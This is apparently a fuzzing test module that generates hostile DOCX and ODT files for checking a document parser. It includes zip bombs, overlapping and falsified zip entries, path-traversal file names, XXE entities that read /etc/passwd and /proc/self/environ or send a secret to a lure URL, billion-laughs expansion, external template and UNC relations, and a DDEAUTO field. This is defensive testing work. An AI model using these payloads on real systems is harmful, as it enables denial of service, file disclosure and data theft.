"""DOCX and ODT files that are bombs, loops and traps. Each takes a random generator and a lure, and gives bytes."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import cache
from random import Random

from tests.fuzz.documents import OFFICE, cv, docx, docx_parts, odt, pack, relation, words
from tests.fuzz.lure import Lure

_MAIN = "word/document.xml"


def _either(rng: Random, text: str, prolog: str) -> bytes:
    """The same XML in a DOCX or an ODT, in the part that everyone reads or in one beside it."""
    if rng.random() < 0.3:
        return odt(f"<text:p>{text}</text:p><text:p>x</text:p>", prolog=prolog)
    run = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    parts = docx_parts(words(cv()) + run, prolog=prolog)
    place = rng.choice((_MAIN, "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels"))
    if place != _MAIN:
        parts |= {_MAIN: docx_parts(words(cv()))[_MAIN], place: prolog + str(parts[place])}
    return pack(parts)


@cache
def _zeros(megabytes: int) -> bytes:
    packed = io.BytesIO()
    archive = zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9)
    with archive, archive.open("zeros.xml", "w") as entry:
        for _ in range(megabytes):
            entry.write(bytes(1_000_000))
    return packed.getvalue()


def plain_bomb(rng: Random, _: Lure) -> bytes:
    return pack(docx_parts(words(cv()) + " " * rng.choice((50_000_000, 150_000_000))))


def bomb_of_bombs(rng: Random, _: Lure) -> bytes:
    """Archives in archives, as 42.zip has them; only whoever unpacks what he finds is hit."""
    inner = _zeros(50)
    for depth in range(rng.randint(1, 4)):
        inner = pack({f"{depth}-{number}.zip": inner for number in range(10)})
    return pack({**docx_parts(words(cv())), "word/media/a.zip": inner})


def archive_of_itself(rng: Random, _: Lure) -> bytes:
    """As near to a quine as matters here: each level holds what looks like the whole."""
    content = pack(docx_parts(words(cv())))
    for _level in range(rng.randint(2, 30)):
        content = pack({**docx_parts(words(cv())), "word/document.docx": content}, how=zipfile.ZIP_STORED)
    return content


def overlapping(rng: Random, _: Lure) -> bytes:
    """Many names in the directory, one body: each is unpacked anew."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = kernel.compress(bytes(21_000_000)) + kernel.flush()
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(body), 21_000_000, 5, 0) + b"x.xml" + body
    names = [b"word/%d.xml" % number for number in range(rng.choice((4, 900, 60_000)))]
    entries = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(body), 21_000_000, len(name), 0, 0, 0, 0, 0, 0)
        + name
        for name in names
    )
    end = struct.pack(
        "<4s4H2LH", b"PK\5\6", 0, 0, min(len(names), 65_535), min(len(names), 65_535), len(entries), len(local), 0
    )
    return local + entries + end


def false_sizes(rng: Random, _: Lure) -> bytes:
    """The directory says little, the body unpacks to much; or the other way round."""
    content = bytearray(pack(docx_parts(words(cv()) + " " * 60_000_000)))
    at = content.rindex(b"PK\1\2", 0, content.rindex(_MAIN.encode()))
    struct.pack_into("<L", content, at + 24, rng.choice((10, 5_000, 2**32 - 2)))
    return bytes(content)


def too_many_parts(rng: Random, _: Lure) -> bytes:
    extra = {f"word/{number}.xml": b"" for number in range(rng.choice((900, 1_100, 30_000)))}
    return pack({**docx_parts(words(cv())), **extra}, how=zipfile.ZIP_STORED)


def strange_names(rng: Random, lure: Lure) -> bytes:
    names = (
        f"../../../../../../..{lure.folder}/out.txt", f"{lure.folder}/out.txt", "a\0b.xml", "\u202efdp.xml",
        "x" * 60_000,
        "word\\document.xml", "con", "//evil/share", "C:\\evil.xml", "..", ".", "/",
    )  # fmt: skip
    return pack({**docx_parts(words(cv())), **dict.fromkeys(rng.sample(names, 6), b"x")})


def doubled_parts(_: Random, __: Lure) -> bytes:
    packed = io.BytesIO(pack(docx_parts(words(cv()))))
    with zipfile.ZipFile(packed, "a") as archive:
        archive.writestr(zipfile.ZipInfo(_MAIN), docx_parts(words("another " * 40))[_MAIN])
    return packed.getvalue()


def other_packing(rng: Random, _: Lure) -> bytes:
    how = rng.choice((zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA))
    return pack(docx_parts(words(cv()) + " " * rng.choice((0, 80_000_000))), how=how)


def outside_entity(rng: Random, lure: Lure) -> bytes:
    where = rng.choice((lure.url, lure.secret.as_uri(), "file:///etc/passwd", "file:///proc/self/environ"))
    return _either(rng, "&e;", f'<!DOCTYPE x [<!ENTITY e SYSTEM "{where}">]>')


def outside_definition(rng: Random, lure: Lure) -> bytes:
    definition = rng.choice(
        (
            f'<!DOCTYPE x SYSTEM "{lure.url}">',
            f'<!DOCTYPE x PUBLIC "-//W3C//DTD" "{lure.url}">',
            f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{lure.url}"> %p;]>',
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{lure.secret.as_uri()}">'
            f"<!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '{lure.url}?%f;'>\">%e;%s;]>",
        )
    )
    return _either(rng, "x", definition)


def billion_laughs(rng: Random, _: Lure) -> bytes:
    depth = rng.randint(5, 40)
    laughs = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, depth))
    return _either(rng, f"&l{depth - 1};", f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>')


def entity_of_itself(rng: Random, _: Lure) -> bytes:
    return _either(rng, "&a;", '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')


def quadratic_blowup(rng: Random, _: Lure) -> bytes:
    return _either(rng, "&a;" * rng.choice((100, 50_000)), f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>')


def deep_xml(rng: Random, _: Lure) -> bytes:
    depth = rng.choice((13, 250, 5_000, 300_000))
    opened, closed = rng.choice(
        (
            ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
            ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
            ("<w:p><w:ins>", "</w:ins></w:p>"),
            ("<w:hyperlink>", "</w:hyperlink>"),
            ("<x>", "</x>"),
        )
    )
    text = words(cv())
    return docx(text + opened * depth + words("deep") + closed * depth)


def deep_runs(rng: Random, _: Lure) -> bytes:
    """Nested inside a paragraph, where runs are collected."""
    depth = rng.choice((200, 900, 5_000))
    if rng.random() < 0.5:
        return odt("<text:p>" + "<text:span>" * depth + cv()[:300] + "</text:span>" * depth + "</text:p>")
    return docx(
        words(cv()) + "<w:p>" + "<w:ins>" * depth + "<w:r><w:t>deep</w:t></w:r>" + "</w:ins>" * depth + "</w:p>"
    )


def deep_lists(rng: Random, _: Lure) -> bytes:
    depth = rng.choice((200, 900, 5_000, 200_000))
    return odt(
        "<text:list><text:list-item>" * depth + "<text:p>deep</text:p>" + "</text:list-item></text:list>" * depth
    )


def boxes_in_boxes(rng: Random, _: Lure) -> bytes:
    depth = rng.choice((10, 14, 100))
    box = "<w:p><w:r><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p>"
    return docx(words(cv()) + box[0] * depth + words("deep") + box[1] * depth)


def endless_parts(rng: Random, _: Lure) -> bytes:
    what = rng.choice((words("a"), "<w:p/>", "<w:p><w:r><w:br/></w:r></w:p>", "<w:tbl><w:tr><w:tc/></w:tr></w:tbl>"))
    return docx(words(cv()) + what * rng.choice((1_000, 300_000)))


def wide_rows(rng: Random, _: Lure) -> bytes:
    count = rng.choice((500, 40_000))
    cell = f"<w:tc>{words('a')}{words('b')}</w:tc>"
    return docx(words(cv()) + "<w:tbl><w:tr>" + cell * count + "</w:tr></w:tbl>")


def strange_attributes(rng: Random, _: Lure) -> bytes:
    count = rng.choice((1_000, 100_000))
    attributes = " ".join(f'a{at}="1"' for at in range(count))
    spaces = " ".join(f'xmlns:n{at}="urn:{at}"' for at in range(count // 10))
    return docx(words(cv()) + f'<w:p {attributes} {spaces}/><w:p a="{"x" * 11_000_000}"/>')


def strange_encodings(rng: Random, _: Lure) -> bytes:
    named = rng.choice(("utf-16", "utf-7", "utf-32", "cp037", "nonsense", "x" * 9_000, "utf-8"))
    parts = docx_parts(words(cv()), prolog=f'<?xml version="1.0" encoding="{named}"?>')
    try:
        parts[_MAIN] = str(parts[_MAIN]).encode(rng.choice((named, "utf-8")), "replace")
    except LookupError:
        parts[_MAIN] = b"\xff\xfe" + str(parts[_MAIN]).encode("utf-16-le")
    return pack(parts)


def includes(_: Random, lure: Lure) -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{lure.secret.as_uri()}"/>'
    sheet = f'<?xml-stylesheet type="text/xsl" href="{lure.url}"?>'
    return docx(words(cv()) + include, prolog=sheet)


def macros(rng: Random, _: Lure) -> bytes:
    parts = docx_parts(words(cv()))
    parts[rng.choice(("word/vbaProject.bin", "word/VBAPROJECT.bin", "vbaProject.bin"))] = b"\xd0\xcf\x11\xe0" * 99
    if rng.random() < 0.5:
        types = str(parts["[Content_Types].xml"])
        parts["[Content_Types].xml"] = types.replace(
            OFFICE + ".document", "application/vnd.ms-word.document.macroEnabled"
        )
    return pack(parts)


def objects_inside(rng: Random, _: Lure) -> bytes:
    parts = docx_parts(words(cv()), relations=relation(7, "oleObject", "embeddings/a.bin"))
    return pack({**parts, "word/embeddings/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rng.randbytes(9_000)})


def outside_parts(rng: Random, lure: Lure) -> bytes:
    """What Word would fetch: templates, pictures, frames, linked objects, fields."""
    kinds = (
        "attachedTemplate",
        "image",
        "hyperlink",
        "aFChunk",
        "frame",
        "subDocument",
        "oleObject",
        "header",
        "styles",
    )
    targets = (lure.url, lure.secret.as_uri(), f"\\\\127.0.0.1\\share\\{rng.random()}", "mhtml:" + lure.url)
    related = "".join(relation(at, kind, rng.choice(targets), outside=True) for at, kind in enumerate(kinds))
    field = f'<w:p><w:fldSimple w:instr="INCLUDEPICTURE {lure.url} \\d"/><w:fldSimple w:instr="DDEAUTO sh x"/></w:p>'
    chunk = '<w:altChunk r:id="r3"/><w:sectPr><w:headerReference r:id="r7" w:type="default"/></w:sectPr>'
    return docx(words(cv()) + field + chunk, relations=related)


def parts_in_a_ring(rng: Random, _: Lure) -> bytes:
    """A document that includes itself, is its own header, its own styles."""
    kinds = ("aFChunk", "header", "styles", "numbering", "officeDocument", "subDocument")
    related = "".join(relation(at, kind, "/word/document.xml") for at, kind in enumerate(kinds))
    ring = '<w:altChunk r:id="r0"/><w:sectPr><w:headerReference r:id="r1" w:type="default"/></w:sectPr>'
    parts = docx_parts(words(cv()) + ring, relations=related)
    if rng.random() < 0.5:
        parts["word/_rels/document.xml.rels"] = str(parts["word/_rels/document.xml.rels"]) * 2
    return pack(parts)


def strange_text(rng: Random, _: Lure) -> bytes:
    piece = rng.choice(
        ("&#x202E;", "&#xFFFF;", "&#xD800;", "&#0;", "&#x10FFFF;", "e\u0301\u0302\u0303" * 50, "<![CDATA[x]]>")
    )
    return docx(words(cv()) + f"<w:p><w:r><w:t>{piece * 1_000}</w:t></w:r></w:p>")


SPECIALS = (
    plain_bomb, bomb_of_bombs, archive_of_itself, overlapping, false_sizes, too_many_parts, strange_names,
    doubled_parts,
    other_packing, outside_entity, outside_definition, billion_laughs, entity_of_itself, quadratic_blowup, deep_xml,
    deep_runs, deep_lists, boxes_in_boxes, endless_parts, wide_rows, strange_attributes, strange_encodings, includes,
    macros, objects_inside, outside_parts, parts_in_a_ring, strange_text,
)  # fmt: skip
